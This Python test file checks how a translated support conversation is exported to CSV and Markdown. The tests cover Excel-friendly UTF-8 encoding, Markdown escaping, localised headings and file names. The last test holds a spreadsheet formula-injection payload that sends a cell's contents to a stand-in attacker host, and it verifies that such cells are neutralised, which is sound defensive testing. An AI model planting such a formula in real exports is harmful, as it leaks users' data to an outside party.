"""Transcript downloads: CSV that Excel opens in UTF-8, and Markdown a person reads as a
conversation, rendered or as plain text (no "Agent\\: English")."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

from hymt_chat.modes.agent.conversation import Conversation, Turn
from hymt_chat.modes.agent.transcript import (
    CSV_COLUMNS,
    export_files,
    transcript_csv,
    transcript_markdown,
)
from hymt_chat.modes.page_text import PageText

T0 = datetime(2025, 3, 1, 9, 30, 5, tzinfo=UTC)


def _conversation() -> Conversation:
    conv = Conversation("en", "zh", started=T0)
    conv.add_turn(Turn(T0, "customer", "您好，我的订单号是JD123456789。", "zh",
                       "Hello, my order number is JD123456789.", "en"))
    conv.add_turn(Turn(T0, "agent", "Line one | with a pipe\nline two <b>", "en",
                       "第一行\n第二行", "zh", ("Numbers differ",), "Line one, line two", 0.8))
    return conv


def test_csv_has_a_bom_and_round_trips_through_the_csv_module():
    data = transcript_csv(_conversation().transcript)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel then reads UTF-8, not the ANSI code page
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[1] == ["2025-03-01T09:30:05+00:00", "customer", "zh",
                       "您好，我的订单号是JD123456789。", "en",
                       "Hello, my order number is JD123456789.", "", ""]
    assert rows[2][3] == "Line one | with a pipe\nline two <b>"  # newlines kept, quoted
    assert rows[2][6:] == ["Line one, line two", "Numbers differ"]


def test_markdown_is_the_conversation_as_a_person_reads_it():
    """Who, when, the original, then its translation: no table, no <br>, and a backslash
    only where Markdown would otherwise change the text (here: an HTML tag)."""
    md = transcript_markdown(_conversation())
    assert md == (
        "# Support conversation\n"
        "\n"
        "Agent: English ⇄ Customer: Chinese  \n"
        "Started 2025-03-01 09:30 UTC · 2 messages\n"
        "\n"
        "## 09:30:05 · Customer · Chinese\n"
        "\n"
        "您好，我的订单号是JD123456789。\n"
        "\n"
        "> English: Hello, my order number is JD123456789.\n"
        "\n"
        "## 09:30:05 · Agent · English\n"
        "\n"
        "Line one | with a pipe  \n"  # a line break kept as a line break
        "line two \\<b>\n"  # a tag would vanish from the rendered page
        "\n"
        "> Chinese: 第一行  \n"
        "> 第二行\n"
        "\n"
        "> Back-translation: Line one, line two\n"
        "\n"
        "- ⚠ Numbers differ\n")


def test_markdown_escapes_only_what_would_change_the_text():
    conv = Conversation("en", "es", started=T0)
    conv.add_turn(Turn(T0, "customer", "# 1. Pedido: 12.50 € (IVA incl.) — *urgente*", "es",
                       "# 1. Order: 12.50 € (VAT incl.) — *urgent*", "en"))
    md = transcript_markdown(conv)
    assert "\\# 1. Pedido: 12.50 € (IVA incl.) — \\*urgente\\*" in md  # a heading, emphasis
    assert "> English: # 1. Order: 12.50 € (VAT incl.) — \\*urgent\\*" in md  # mid-line: no
    assert "\\:" not in md and "\\." not in md and "\\(" not in md


def test_markdown_is_in_the_pages_words_with_the_next_days_date():
    conv = Conversation("fr", "es", started=T0)
    later = datetime(2025, 3, 2, 8, 0, 0, tzinfo=UTC)
    conv.add_turn(Turn(T0, "customer", "Hola", "es", "Bonjour", "fr"))
    conv.add_turn(Turn(later, "agent", "Merci", "fr", "Gracias", "es"))
    md = transcript_markdown(conv, PageText.of("fr"))
    assert md.startswith("# Conversation d'assistance\n")
    assert "Commencée le 2025-03-01 09:30 UTC · 2 messages" in md
    assert re.search(r"^## 09:30:05 · \w+ · Espagnol$", md, re.MULTILINE)
    assert "## 2025-03-02 08:00:00 · Agent · Français" in md  # another day: its date
    assert "> Espagnol : Gracias" not in md and "> Espagnol: Gracias" in md


def test_export_files_are_named_after_the_start():
    files = export_files(_conversation())
    assert [f.name for f in files] == ["support-20250301-093005.csv", "support-20250301-093005.md"]
    assert files[0].mime.startswith("text/csv") and files[1].mime.startswith("text/markdown")
    assert files[1].content.decode("utf-8").startswith("# Support conversation")


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    conv = Conversation("en", "zh", started=T0)
    for text in (formula, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "a=1 is fine"):
        conv.add_turn(Turn(T0, "customer", text, "en", text, "zh"))
    rows = list(csv.reader(io.StringIO(transcript_csv(conv.transcript).decode("utf-8-sig"))))
    originals = [row[3] for row in rows[1:]]
    assert originals[:6] == ["'" + t for t in (formula, "+1+2", "-2+3", "@SUM(A1)", "\tTAB",
                                               "\rCR")]
    assert originals[6] == "a=1 is fine"  # only a leading sign matters
    assert all(row[5] == row[3] for row in rows[1:])  # the translation column too
    md = transcript_markdown(conv)
    assert "=HYPERLINK" in md and "'=HYPERLINK" not in md  # the Markdown stays literal
